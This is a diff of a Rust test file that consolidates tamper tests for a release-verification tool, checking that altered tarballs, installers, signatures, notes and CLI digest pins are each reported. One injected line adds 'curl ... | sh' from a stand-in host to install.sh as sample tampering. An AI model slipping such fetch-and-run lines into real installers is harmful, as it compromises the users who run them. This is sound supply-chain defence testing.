@@ -2,8 +2,9 @@
 //! the image published by the engine builder into a real registry and signed with a
 //! cosign key (SBOM and provenance attached by cosign), the five CLI archives built by
 //! `dist` pinned to its digest, checksums.txt signed into its bundle, the notes, and
-//! the formula pushed to a real tap. The good release passes; each fault, injected in
-//! its own release, is named by the check it breaks.
+//! the formula pushed to a real tap. The good release passes; each fault is named by
+//! the check it breaks (the faults in the assets share one release, each undone before
+//! the next; a fault in the registry or the tap has a release of its own).
 
 use std::path::{Path, PathBuf};
 
@@ -153,6 +154,25 @@ impl Release {
         )
         .run()
         .unwrap();
+    }
+
+    /// What `fault` returns, after it ran on the assets; then every asset is put back as
+    /// it was (the tap and the registry are not).
+    fn undone_after<T>(&self, fault: impl FnOnce() -> T) -> T {
+        let saved = tempfile::tempdir().unwrap();
+        let dir = self.dir();
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let entry = entry.unwrap();
+            std::fs::copy(entry.path(), saved.path().join(entry.file_name())).unwrap();
+        }
+        let result = fault();
+        std::fs::remove_dir_all(&dir).unwrap();
+        std::fs::create_dir(&dir).unwrap();
+        for entry in std::fs::read_dir(saved.path()).unwrap() {
+            let entry = entry.unwrap();
+            std::fs::copy(entry.path(), dir.join(entry.file_name())).unwrap();
+        }
+        result
     }
 
     /// The failed checks `verify-release` names, as (check, subject, result) from --json.
@@ -318,71 +338,92 @@ fn a_release_made_here_passes_every_check() {
     assert!(archives.2.contains("darwin-amd64.tar.gz is not in checksums.txt"), "{archives:?}");
 }
 
+/// Each fault in the assets, injected into one release and undone before the next (a
+/// release each cost an image build, its signatures and five archives), is named by the
+/// one check it breaks: a tarball or the installer changed after the checksums,
+/// checksums.txt signed by another key or into cosign's legacy bundle, notes naming
+/// another digest, and a CLI built with another digest.
 #[test]
-fn a_tarball_changed_after_the_checksums_is_named() {
+fn each_asset_changed_after_the_release_is_named_by_the_check_it_breaks() {
     let release = Release::make();
     let sh = shell();
-    // Still a real tarball with the same CLI, one file more.
-    let unpacked = tempfile::tempdir().unwrap();
-    let (archive, into) = (release.tarball("linux-amd64"), unpacked.path());
-    cmd!(sh, "tar -xzf {archive} -C {into}").run().unwrap();
-    std::fs::write(into.join("EXTRA"), "added after the checksums\n").unwrap();
-    let top = format!("stigmer-v{VERSION}-linux-amd64");
-    cmd!(sh, "tar -czf {archive} -C {into} {top} EXTRA").run().unwrap();
+    let only_failure = |fault: &str| -> (String, String, String) {
+        let failed = release.failures(&sh);
+        assert_eq!(failed.len(), 1, "{fault}: {failed:#?}");
+        failed.into_iter().next().unwrap()
+    };
 
-    let failed = release.failures(&sh);
-    assert_eq!(failed.len(), 1, "{failed:#?}");
-    let (check, subject, result) = &failed[0];
+    // A tarball: still a real tarball with the same CLI, one file more.
+    let top = format!("stigmer-v{VERSION}-linux-amd64");
+    let (check, subject, result) = release.undone_after(|| {
+        let unpacked = tempfile::tempdir().unwrap();
+        let (archive, into) = (release.tarball("linux-amd64"), unpacked.path());
+        cmd!(sh, "tar -xzf {archive} -C {into}").run().unwrap();
+        std::fs::write(into.join("EXTRA"), "added after the checksums\n").unwrap();
+        cmd!(sh, "tar -czf {archive} -C {into} {top} EXTRA").run().unwrap();
+        only_failure("a changed tarball")
+    });
     assert_eq!((check.as_str(), subject.as_str()), ("checksum", format!("{top}.tar.gz").as_str()));
     assert!(result.starts_with("sha256 is ") && result.contains(", checksums.txt says "), "{result}");
-}
 
-#[test]
-fn an_installer_changed_after_the_checksums_is_named() {
-    let release = Release::make();
-    let installer = release.dir().join("install.sh");
-    let script = std::fs::read_to_string(&installer).unwrap();
-    std::fs::write(
-        &installer,
-        script.replace("set -eu\n", "set -eu\ncurl -fsSL https://example.com/x | sh\n"),
-    )
-    .unwrap();
-    let sh = shell();
-    let failed = release.failures(&sh);
-    assert_eq!(failed.len(), 1, "{failed:#?}");
-    let (check, subject, result) = &failed[0];
+    // The installer.
+    let (check, subject, result) = release.undone_after(|| {
+        let installer = release.dir().join("install.sh");
+        let script = std::fs::read_to_string(&installer).unwrap();
+        let changed = script.replace("set -eu\n", "set -eu\ncurl -fsSL https://example.com/x | sh\n");
+        std::fs::write(&installer, changed).unwrap();
+        only_failure("a changed installer")
+    });
     assert_eq!((check.as_str(), subject.as_str()), ("checksum", "install.sh"));
     assert!(result.contains("checksums.txt says"), "{result}");
-}
 
-#[test]
-fn checksums_signed_by_another_key_or_into_cosigns_legacy_bundle_are_named() {
-    let release = Release::make();
-    let sh = shell();
-    let other = KeyPair::generate();
-    release.sign_checksums(&sh, &other.key);
-
-    let failed = release.failures(&sh);
-    assert_eq!(failed.len(), 1, "{failed:#?}");
-    let (check, subject, result) = &failed[0];
+    // checksums.txt signed by another key.
+    let (check, subject, result) = release.undone_after(|| {
+        release.sign_checksums(&sh, &KeyPair::generate().key);
+        only_failure("checksums signed by another key")
+    });
     assert_eq!((check.as_str(), subject.as_str()), ("signature", "checksums.txt"));
     assert!(result.starts_with("not signed by the public key"), "{result}");
 
     // The right key, in the bundle cosign 2 writes unless told --new-bundle-format: not
     // the Sigstore bundle the asset's name promises, which no release ever shipped.
-    let (dir, key) = (release.dir(), &release.keys.key);
-    let (sums, bundle) = (dir.join("checksums.txt"), dir.join("checksums.txt.sigstore.json"));
-    run_ok(
-        cmd!(sh, "cosign sign-blob --yes --key {key} --tlog-upload=false --bundle {bundle} {sums}")
-            .env("COSIGN_PASSWORD", test_support::cosign::PASSWORD),
-    );
-    let failed = release.failures(&sh);
-    assert_eq!(failed.len(), 1, "{failed:#?}");
-    let (check, subject, result) = &failed[0];
+    let (check, subject, result) = release.undone_after(|| {
+        let (dir, key) = (release.dir(), &release.keys.key);
+        let (sums, bundle) = (dir.join("checksums.txt"), dir.join("checksums.txt.sigstore.json"));
+        run_ok(
+            cmd!(sh, "cosign sign-blob --yes --key {key} --tlog-upload=false --bundle {bundle} {sums}")
+                .env("COSIGN_PASSWORD", test_support::cosign::PASSWORD),
+        );
+        only_failure("cosign's legacy bundle")
+    });
     assert_eq!((check.as_str(), subject.as_str()), ("signature", "checksums.txt"));
     assert!(
         result.contains("checksums.txt.sigstore.json is cosign's legacy bundle, not a Sigstore bundle"),
         "{result}"
+    );
+
+    // Notes naming another digest.
+    let (check, _, result) = release.undone_after(|| {
+        release.write_notes(&sh, OTHER_DIGEST);
+        only_failure("notes naming another digest")
+    });
+    assert_eq!(check, "notes");
+    assert_eq!(result, format!("name {OTHER_DIGEST}, not the verified {}", release.digest));
+
+    // linux-amd64 rebuilt with another digest; checksums, signature, formula and notes
+    // all made again from it, so only the pin is wrong. (Last: the formula's push is
+    // not undone.)
+    let (check, subject, result) = release.undone_after(|| {
+        release.build_cli(&sh, &["x86_64-unknown-linux-musl"], OTHER_DIGEST);
+        release.sign_checksums(&sh, &release.keys.key);
+        release.write_notes(&sh, &release.digest);
+        release.push_formula(&sh);
+        only_failure("a CLI pinned to another digest")
+    });
+    assert_eq!((check.as_str(), subject.as_str()), ("cli pin", format!("{top}.tar.gz").as_str()));
+    assert_eq!(
+        result,
+        format!("the stigmer binary pins {OTHER_DIGEST}, not the verified {}", release.digest)
     );
 }
 
@@ -417,30 +458,6 @@ fn an_index_re_pointed_to_an_unsigned_digest_is_named() {
     assert!(
         pins[0].2.contains(&format!("pins {}, not the verified {unsigned}", release.digest)),
         "{failed:#?}"
-    );
-}
-
-#[test]
-fn a_cli_built_with_another_digest_is_named() {
-    let release = Release::make();
-    let sh = shell();
-    // linux-amd64 rebuilt with another digest; checksums, signature, formula and notes
-    // all made again from it, so only the pin is wrong.
-    release.build_cli(&sh, &["x86_64-unknown-linux-musl"], OTHER_DIGEST);
-    release.sign_checksums(&sh, &release.keys.key);
-    release.write_notes(&sh, &release.digest);
-    release.push_formula(&sh);
-
-    let failed = release.failures(&sh);
-    assert_eq!(failed.len(), 1, "{failed:#?}");
-    let (check, subject, result) = &failed[0];
-    assert_eq!(
-        (check.as_str(), subject.as_str()),
-        ("cli pin", format!("stigmer-v{VERSION}-linux-amd64.tar.gz").as_str())
-    );
-    assert_eq!(
-        result,
-        &format!("the stigmer binary pins {OTHER_DIGEST}, not the verified {}", release.digest)
     );
 }
 
@@ -640,19 +657,6 @@ fn a_formula_with_one_wrong_sha256_is_named() {
     }
     assert!(!failed.iter().any(|(_, subject, _)| subject.ends_with(":v1.3")), "{failed:#?}");
     assert!(!format!("{failed:?}").contains("9.0.0"), "{failed:#?}");
-}
-
-#[test]
-fn notes_naming_another_digest_are_named() {
-    let release = Release::make();
-    let sh = shell();
-    release.write_notes(&sh, OTHER_DIGEST);
-
-    let failed = release.failures(&sh);
-    assert_eq!(failed.len(), 1, "{failed:#?}");
-    let (check, _, result) = &failed[0];
-    assert_eq!(check, "notes");
-    assert_eq!(result, &format!("name {OTHER_DIGEST}, not the verified {}", release.digest));
 }
 
 /// A plain HTTP server of a directory (`python3 -m http.server`), as a release's
